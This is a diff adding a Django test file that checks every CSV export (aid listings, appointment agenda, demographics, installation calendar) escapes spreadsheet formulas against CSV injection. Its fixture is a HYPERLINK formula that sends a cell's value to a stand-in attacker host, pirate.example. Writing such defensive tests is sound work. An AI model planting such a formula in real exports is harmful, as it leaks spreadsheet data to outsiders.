@@ -1,0 +1,78 @@
+"""Every CSV export of the URLconf neutralises spreadsheet formulas (one shared writer)."""
+
+import csv
+import io
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+
+from tests.aides.factories import AideFactory
+from tests.factories import DepartementFactory, EffectifFactory, PopulationFactory, SourceFactory
+from tests.rendezvous.factories import RendezVousFactory
+
+FORMULE = '=HYPERLINK("https://pirate.example/?v="&A1;"Cliquez")'
+
+
+def _exports_csv(resolver=None, espace=""):
+    """The names of every URL pattern whose route ends in .csv."""
+    noms = set()
+    for motif in (resolver or get_resolver()).url_patterns:
+        if isinstance(motif, URLResolver):
+            sous = f"{espace}{motif.namespace}:" if motif.namespace else espace
+            noms |= _exports_csv(motif, sous)
+        elif isinstance(motif, URLPattern) and str(motif.pattern).rstrip("$").endswith(".csv"):
+            noms.add(f"{espace}{motif.name}")
+    return noms
+
+
+def _aides(client):
+    AideFactory(nom=FORMULE)
+    return reverse("aides:export_csv")
+
+
+def _agenda(client):
+    rdv = RendezVousFactory(nom=FORMULE, message="+33 ou -1 ou @SUM(1)")
+    client.force_login(rdv.referent.utilisateur)
+    return reverse("rendezvous:agenda_export") + f"?referent={rdv.referent_id}"
+
+
+def _demographie(client):
+    dep = DepartementFactory(code="972", nom="Martinique")
+    PopulationFactory(annee=2025, departement=dep)
+    EffectifFactory(departement=dep, source=SourceFactory(libelle=FORMULE))
+    return reverse("demographie:territoire_csv", kwargs={"niveau": "departement", "code": "972"})
+
+
+PREPARATIONS = {
+    "aides:export_csv": _aides,
+    "rendezvous:agenda_export": _agenda,
+    "demographie:territoire_csv": _demographie,
+}
+
+
+def test_chaque_export_csv_est_couvert():
+    assert _exports_csv() == set(PREPARATIONS)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("nom", sorted(PREPARATIONS))
+def test_les_formules_sortent_neutralisees(client, nom):
+    url = PREPARATIONS[nom](client)
+    response = client.get(url)
+    assert response.status_code == 200
+    texte = response.content.decode("utf-8")
+    assert texte.startswith("\ufeff")
+    cellules = [c for ligne in csv.reader(io.StringIO(texte[1:]), delimiter=";") for c in ligne]
+    assert "'" + FORMULE in cellules
+    assert not [c for c in cellules if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+@pytest.mark.django_db
+def test_le_calendrier_du_parcours_neutralise_aussi():
+    from installation.services import calendrier_csv
+    from tests.installation.factories import EtapeFactory
+
+    etape = EtapeFactory(titre=FORMULE)
+    texte = calendrier_csv(parcours=etape.parcours).decode("utf-8-sig")
+    cellules = [c for ligne in csv.reader(io.StringIO(texte), delimiter=";") for c in ligne]
+    assert "'" + FORMULE in cellules and FORMULE not in cellules
